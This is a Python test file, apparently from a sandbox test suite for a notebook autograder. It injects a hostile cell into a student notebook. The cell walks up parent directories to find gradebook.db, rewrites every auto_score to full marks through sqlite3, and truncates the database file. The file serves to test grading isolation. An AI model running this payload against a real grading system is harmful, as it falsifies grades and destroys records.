"""Writes full marks into ../../../gradebook.db, through sqlite3 and as plain bytes."""

from hostile import add_cell

BASE = "untouched"
POINTS = 0
FLAG = "gradebook.db"


def attack(notebook):
    return add_cell(
        notebook,
        """
        import sqlite3
        for up in ("", "../", "../../", "../../../", "../../../../"):
            try:
                sqlite3.connect(up + "gradebook.db").execute("update grade set auto_score = 10")
            except Exception as error:
                print(error)
            try:
                if up:
                    open(up + "gradebook.db", "wb").write(b"")
            except Exception as error:
                print(error)
        """,
    )
